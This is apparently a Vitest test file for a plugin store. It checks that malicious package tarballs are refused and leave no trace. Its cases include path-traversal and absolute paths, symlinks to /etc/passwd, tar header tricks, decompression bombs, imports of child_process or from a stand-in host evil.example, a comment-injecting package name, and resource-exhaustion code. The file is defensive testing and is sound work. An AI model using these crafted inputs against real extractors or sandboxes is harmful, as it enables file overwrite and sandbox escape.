import { generateKeyPairSync, randomBytes } from 'node:crypto'
import { mkdtemp, readdir, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { signFacts } from '@ashlar/core'
import { createTestRuntime, type TestRuntime } from '@ashlar/core/testing'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { entryOf, packageOf, paxRecord, tarballOf, tarOf, type TarEntry } from '../store/tarballs.ts'

/* Malicious tarballs. Each is rejected with its code, and leaves nothing in tables and temporary folders. */

let runtime: TestRuntime
let before: unknown
let folder: string
beforeAll(async () => {
  // This file needs its own folder, because other tests publish too.
  folder = await mkdtemp(join(tmpdir(), 'ashlar-tarballs-'))
  vi.stubEnv('TMPDIR', folder)
  runtime = await createTestRuntime({ sandbox: { loadTimeoutMs: 1000 } })
  before = await readState()
})
afterAll(async () => {
  await runtime.close()
  await rm(folder, { recursive: true })
})

async function readState(): Promise<unknown> {
  const tables = ['plugin_package', 'plugin_version', 'plugin_claim', 'plugin_submission', 'plugin_bundle', 'workspace_plugin']
  const counts = tables.map((table) => `(select count(*) from ${table}) as ${table}`)
  const { rows } = await runtime.database.pool.query(`select ${counts.join()}`)
  return [rows, await readdir(folder)]
}

async function expectRefused(tarball: Buffer, code: string, message: RegExp, signature?: Signature): Promise<void> {
  const publishing = runtime.pluginStore.publish(runtime.ownerId, { tarball, ...(signature && { signature }) })
  await expect(publishing).rejects.toMatchObject({ code, message: expect.stringMatching(message) })
  expect(await readState()).toEqual(before)
}

type Signature = ReturnType<typeof signFacts>

const ID = 'cccccccc-0000-4000-8000-000000000001'
const ENTRY = entryOf('evil', [{ id: ID, name: 'do', run: `yield ['out', 1]` }])
const GOOD = packageOf('evil', '1.0.0', ENTRY)
const good: TarEntry[] = Object.entries(GOOD).map(([path, content]) => ({ path: `package/${path}`, content }))
const withEntry = (...more: TarEntry[]): Buffer => gzipSync(tarOf([...good, ...more]))
const withFiles = (files: Record<string, string>): Buffer => tarballOf({ ...GOOD, ...files })
const pax = (...records: [string, string][]): TarEntry => ({
  path: 'PaxHeader/x',
  type: 'x',
  content: records.map(([key, value]) => paxRecord(key, value)).join(''),
})
/** A file whose path is in the extended header before it. */
const withPath = (path: string): Buffer => withEntry(pax(['path', path]), { path: 'package/x', content: 'x' })

describe('a path that', () => {
  it.each([
    ['climbs', 'package/../../outside.txt'],
    ['climbs from the start', '../outside.txt'],
    ['is absolute', '/etc/cron.d/evil'],
    ['has a drive', 'package/C:/evil.txt'],
    ['has backslashes', 'package\\..\\..\\evil.txt'],
    ['has empty segments', 'package//evil.txt'],
    ['has a dot for a segment', 'package/./evil.txt'],
    ['is in no package', 'elsewhere/evil.txt'],
    ['is the package itself', 'package'],
    ['has a zero byte', 'package/a\0b.txt'],
    ['has a line break', 'package/a\nb.txt'],
    ['names a stream', 'package/a.txt:hidden'],
    ['names a device', 'package/aux.txt'],
    ['ends with a dot', 'package/folder./a.txt'],
    ['is too long', `package/${'a/'.repeat(20)}${'b'.repeat(190)}/${'c'.repeat(190)}`],
    ['has a long segment', `package/${'d'.repeat(250)}`],
    ['is very deep', `package/${'a/'.repeat(60)}b`],
    ['already exists', 'package/index.js'],
    ['already exists in lower case', 'package/INDEX.js'],
    ['uses a file as a folder', 'package/index.js/evil.js'],
    ['is empty', ''],
  ])('%s', async (_what, path) => {
    await expectRefused(withPath(path), 'TARBALL_INVALID', /tarball (has the path|cannot be read)/)
  })
})

describe('an entry that', () => {
  it.each<[string, TarEntry | TarEntry[], RegExp]>([
    ['is a symbolic link', { path: 'package/a', type: '2', link: '/etc/passwd' }, /symbolic link/],
    ['is a hard link', { path: 'package/a', type: '1', link: 'package/index.js' }, /hard link/],
    ['is a device', { path: 'package/a', type: '3' }, /device/],
    ['is a pipe', { path: 'package/a', type: '6' }, /pipe/],
    ['is a folder with content', { path: 'package/a/', type: '5', content: 'x' }, /folder with content/],
    ['has a GNU long name', { path: '././@LongLink', type: 'L', content: 'package/../../a\0' }, /GNU long name/],
    ['is a global header', { path: 'g', type: 'g', content: paxRecord('path', 'package/a') }, /global header/],
    ['is of an unknown type', { path: 'package/a', type: 'Z' }, /type "Z"/],
    ['states more bytes than there are', { path: 'package/a', content: 'x', size: 2_000_000 }, /are left/],
    ['states its size in base 256', { path: 'package/a', size: '\x80\0\0\0\0\0\0\0\0\0\0\x01' }, /octal/],
    ['states a negative size', { path: 'package/a', size: '-0000000001\0' }, /octal/],
    ['has a wrong checksum', { path: 'package/a', breakChecksum: true }, /checksum/],
    ['is of the old format', { path: 'package/a', magic: 'ustar  \0' }, /format ustar/],
    ['has two sizes', [pax(['size', '700']), { path: 'package/a', content: 'x' }], /two sizes/],
    ['has a link in its extended header', [pax(['linkpath', '/etc/passwd']), { path: 'package/a' }], /linkpath/],
    ['has two paths', [pax(['path', 'package/a'], ['path', 'package/b']), { path: 'package/c' }], /twice/],
    ['has two extended headers', [pax(['path', 'package/a']), pax(['path', 'package/b']), { path: 'package/c' }], /in a row/],
    ['has a broken extended header', [{ path: 'x', type: 'x', content: '99 path=a\n' }, { path: 'package/c' }], /broken/],
  ])('%s', async (_what, entry, message) => {
    await expectRefused(withEntry(...[entry].flat()), 'TARBALL_INVALID', message)
  })
})

describe('a tarball that', () => {
  it.each<[string, () => Buffer, RegExp]>([
    ['is not gzipped', () => tarOf(good), /must be gzipped/],
    ['is broken gzip', () => gzipSync(tarOf(good)).subarray(0, 100), /cannot be unpacked/],
    ['is empty', () => Buffer.alloc(0), /must be gzipped/],
    ['has no files', () => gzipSync(Buffer.alloc(1024)), /no files/],
    ['ends in an entry', () => gzipSync(tarOf(good, Buffer.alloc(0))), /in the middle/],
    ['has data after its end', () => gzipSync(Buffer.concat([tarOf(good), tarOf(good)])), /after its end/],
    ['is a bomb', () => gzipSync(Buffer.alloc(200 * 2 ** 20)), /unpacks to more than/],
    ['is a smaller bomb', () => withFiles({ 'zeros.txt': '\0'.repeat(40 * 2 ** 20) }), /times its size/],
    ['is far too large', () => Buffer.alloc(11 * 2 ** 20), /the limit is 10485760/],
    [
      'has very many files',
      () => tarballOf({ ...GOOD, ...Object.fromEntries(Array.from({ length: 5001 }, (_, i) => [`f${i}`, `${Math.random()}`])) }),
      /more than 5000 files/,
    ],
  ])('%s', async (_what, make, message) => {
    await expectRefused(make(), 'TARBALL_INVALID', message)
  })
})

describe('a package.json that', () => {
  const { 'index.js': _, ...none } = GOOD
  it.each<[string, Record<string, string>, RegExp]>([
    ['is missing', { 'index.js': ENTRY }, /package.json: is missing/],
    ['is not JSON', { ...GOOD, 'package.json': '{' }, /is not JSON/],
    ['is a list', { ...GOOD, 'package.json': '[]' }, /expected object/],
    ['does not declare a plugin', packageOf('evil', '1.0.0', ENTRY, { ashlar: undefined }), /ashlar/],
    ['has no licence', packageOf('evil', '1.0.0', ENTRY, { license: undefined }), /license/],
    [
      'was packed with an invalid SDK version',
      packageOf('evil', '1.0.0', ENTRY, { ashlar: { blocks: './index.js', sdk: '1' } }),
      /ashlar\.sdk/,
    ],
    ['has no version', packageOf('evil', 'latest', ENTRY), /must be a version/],
    ['has a name that climbs', packageOf('../evil', '1.0.0', ENTRY), /name/],
    ['has a name that ends a comment', packageOf('evil*/globalThis.x=1/*', '1.0.0', ENTRY), /name/],
    ['has a name of a prototype', packageOf('__proto__', '1.0.0', ENTRY), /name/],
    ['has its entry outside', packageOf('evil', '1.0.0', ENTRY, { ashlar: { blocks: '../../index.js' } }), /inside the package/],
    ['has its entry at the root', packageOf('evil', '1.0.0', ENTRY, { ashlar: { blocks: '/etc/passwd' } }), /inside the package/],
    ['has a zero byte', packageOf('evil', '1.0.0', ENTRY, { description: 'a\0b' }), /description: must not contain .* U\+0000/],
    ['has no entry', none, /not in the tarball/],
  ])('%s', async (_what, files, message) => {
    await expectRefused(tarballOf(files), 'PLUGIN_INVALID', message)
  })
})

interface Refused {
  code: string
  message: string
  details: { faults: { path: string }[] }
}

/** Random hexadecimal digits, which compress to half their size at best. */
const noise = (length: number): string => randomBytes(length / 2).toString('hex')
const importing = (from: string): string => `import * as given from '${from}'\nglobalThis.given = given\n${ENTRY}`

describe('code that', () => {
  it.each<[string, Record<string, string>, string, RegExp]>([
    ['imports Node', { 'index.js': importing('node:fs') }, 'PLUGIN_LOAD_FAILED', /index\.js:1:\d+: "node:fs" is a Node module/],
    [
      'imports Node by its old name',
      { 'index.js': importing('child_process') },
      'PLUGIN_LOAD_FAILED',
      /"child_process" is a Node/,
    ],
    [
      'uses Node in a dependency while it loads',
      {
        'index.js': importing('dependency'),
        'node_modules/dependency/package.json': '{"name":"dependency","version":"1.0.0","main":"main.js"}',
        'node_modules/dependency/main.js': `\nmodule.exports = require('net').connect(80)`,
      },
      'PLUGIN_LOAD_FAILED',
      /net\.connect is not available in a sandbox/,
    ],
    ['imports a missing package', { 'index.js': importing('lodash') }, 'PLUGIN_LOAD_FAILED', /Could not resolve "lodash"/],
    ['imports from outside', { 'index.js': importing('/etc/passwd') }, 'PLUGIN_LOAD_FAILED', /outside the package/],
    [
      'imports from outside by a relative path',
      { 'index.js': importing(`${'../'.repeat(12)}etc/hostname`) },
      'PLUGIN_LOAD_FAILED',
      /outside the package/,
    ],
    [
      'imports from the network',
      { 'index.js': importing('https://evil.example/x.js') },
      'PLUGIN_LOAD_FAILED',
      /cannot be imported/,
    ],
    [
      'imports from outside through a dependency',
      {
        'index.js': importing('dependency'),
        'node_modules/dependency/package.json': '{"name":"dependency","main":"../../../../../../../../../../etc/hostname"}',
      },
      'PLUGIN_LOAD_FAILED',
      /outside the package|Could not resolve/,
    ],
    ['does not parse', { 'index.js': 'export default {{{' }, 'PLUGIN_LOAD_FAILED', /index\.js:1:\d+: /],
    ['crashes the bundler', { 'index.js': '['.repeat(3e6) }, 'PLUGIN_LOAD_FAILED', /bundler/],
    ['makes a large bundle', { 'index.js': `globalThis.a = '${noise(6e6)}'\n${ENTRY}` }, 'PLUGIN_LOAD_FAILED', /the limit is/],
    [
      'has a zero byte',
      { 'index.js': `globalThis.a = /[\0]/\n${ENTRY}` },
      'PLUGIN_LOAD_FAILED',
      /index\.js: contains the character U/,
    ],
    ['never ends', { 'index.js': `for (;;) {}\n${ENTRY}` }, 'PLUGIN_LOAD_FAILED', /^index\.js: .*did not finish loading/],
    [
      'allocates for ever',
      { 'index.js': `const all = []; for (;;) all.push(new Array(1000).fill(1))\n${ENTRY}` },
      'MEMORY_LIMIT',
      /^index\.js: .*128 MB/,
    ],
    ['throws', { 'index.js': `\nthrow new Error('bad day')` }, 'PLUGIN_LOAD_FAILED', /^index\.js:2:\d+: .*bad day$/],
    ['exports nothing', { 'index.js': 'export const a = 1' }, 'PLUGIN_LOAD_FAILED', /^index\.js: .*definePlugin/],
    [
      'never ends when it is described',
      {
        'index.js': `export default { name: 'evil', get blocks() { if (this.n = (this.n ?? 0) + 1, this.n > 1) for (;;); return [] } }`,
      },
      'CPU_LIMIT|TIMEOUT|PLUGIN_LOAD_FAILED',
      /^index\.js: /,
    ],
    [
      'has an invalid manifest',
      { 'index.js': `export default { name: 'EVIL', blocks: [] }` },
      'PLUGIN_INVALID',
      /^index\.js:1:18: its manifest is not valid: name: .*, got "EVIL"/,
    ],
    ['has a native module', { 'build/Release/evil.node': '\x7fELF' }, 'PLUGIN_INVALID', /evil\.node:1: native/],
    ['builds a native module', { 'node_modules/a/binding.gyp': '{}' }, 'PLUGIN_INVALID', /binding\.gyp:1: native/],
    [
      'fails its tests',
      {
        'index.js': entryOf('evil', [
          { id: ID, name: 'do', run: `yield ['out', 1]`, tests: `[{ input: {}, output: [['out', 2]] }]` },
        ]),
      },
      'TESTS_FAILED',
      /1 of 1 tests failed: evil\/do: do 1/,
    ],
    [
      'never ends its tests',
      { 'index.js': entryOf('evil', [{ id: ID, name: 'do', run: `for (;;);`, tests: `[{ input: {}, output: [] }]` }]) },
      'TESTS_FAILED',
      /1 of 1 tests failed/,
    ],
  ])('%s', async (_what, files, codes, message) => {
    const publishing = runtime.pluginStore.publish(runtime.ownerId, { tarball: withFiles(files) })
    const error = (await publishing.catch((thrown: unknown) => thrown)) as Refused
    expect(error.details.faults[0]?.path).toMatch(/^[\w/.-]+(:\d+(:\d+)?)?$|^evil\/do: do 1$/)
    expect(codes.split('|')).toContain(error.code)
    expect(error.message).toMatch(message)
    expect(await readState()).toEqual(before)
  })
})

describe('a plugin that', () => {
  const replace = '7e7c87ab-3469-4bcc-9abe-67705091b713'
  it.each<[string, string, string, RegExp]>([
    [
      'uses the id of an existing block',
      entryOf('evil', [{ id: replace, name: 'do', run: '' }]),
      'DUPLICATE_BLOCK',
      /^index\.js:3:72: block id 7e7c87ab.* already belongs to @ashlar\/plugin-text/,
    ],
    [
      'uses the name of an existing plugin',
      entryOf('text', [{ id: ID, name: 'do', run: '' }]),
      'DUPLICATE_BLOCK',
      /^index\.js:3:37: plugin name "text" already belongs to @ashlar\/plugin-text/,
    ],
  ])('%s', async (_what, entry, code, message) => {
    await expectRefused(tarballOf(packageOf('evil', '1.0.0', entry)), code, message)
  })

  it.each<[string, Record<string, unknown>]>([
    ['in peerDependencies', { peerDependencies: { '@ashlar/sdk': '^99.1.0' } }],
    ['in dependencies', { peerDependencies: { '@ashlar/sdk': '*' }, dependencies: { '@ashlar/sdk': '99.1.4' } }],
    ['in the packed version', { peerDependencies: { '@ashlar/sdk': '^0.1.0' }, ashlar: { blocks: './index.js', sdk: '99.1.0' } }],
  ])('needs a newer SDK, %s', async (_where, change) => {
    const tarball = tarballOf(packageOf('evil', '1.0.0', ENTRY, change))
    const message = /^package\.json: it is built for @ashlar\/sdk 99\.1\.0, but this installation has \d+\.\d+\.\d+; /
    await expectRefused(tarball, 'SDK_TOO_OLD', message)
  })
})

describe('a signature that', () => {
  const { privateKey } = generateKeyPairSync('ed25519')
  const other = { packageName: 'evil', version: '1.0.0', tarballDigest: '0'.repeat(64) }
  const signature = signFacts(other, privateKey)
  it.each<[string, Signature]>([
    ['is of another content', signature],
    ['is not base64', { ...signature, signature: '%' }],
    ['is too short', { ...signature, signature: 'AAAA' }],
    ['has a key of another kind', { ...signature, publicKey: Buffer.alloc(33).toString('base64') }],
    ['has a key that is not a point of the curve', { ...signature, publicKey: Buffer.alloc(32, 0xff).toString('base64') }],
  ])('%s', async (_what, given) => {
    await expectRefused(tarballOf(GOOD), 'SIGNATURE_INVALID', /signature|base64/, given)
  })
})

describe('after all attempts', () => {
  it('a valid package is published', async () => {
    const version = await runtime.pluginStore.publish(runtime.ownerId, { tarball: tarballOf(GOOD) })
    expect(version).toMatchObject({ packageName: 'evil', version: '1.0.0' })
    expect(runtime.failures).toEqual([])
  })

  it('its name and block ids are claimed even while it is not installed', async () => {
    for (const entry of [entryOf('evil', []), entryOf('other', [{ id: ID, name: 'do', run: '' }])]) {
      const publishing = runtime.pluginStore.publish(runtime.ownerId, { tarball: tarballOf(packageOf('other', '1.0.0', entry)) })
      await expect(publishing).rejects.toMatchObject({ code: 'DUPLICATE_BLOCK' })
    }
  })

  it('only one of the concurrent submissions of a user is accepted', async () => {
    const tarball = tarballOf(packageOf('evil', '1.0.1', ENTRY))
    const all = await Promise.allSettled([1, 2, 3].map(() => runtime.pluginStore.publish(runtime.ownerId, { tarball })))
    const codes = all.map((each) => (each.status === 'rejected' ? (each.reason as { code: string }).code : 'published'))
    expect(codes.toSorted()).toEqual(['CONFLICT', 'CONFLICT', 'published'])
  })
})
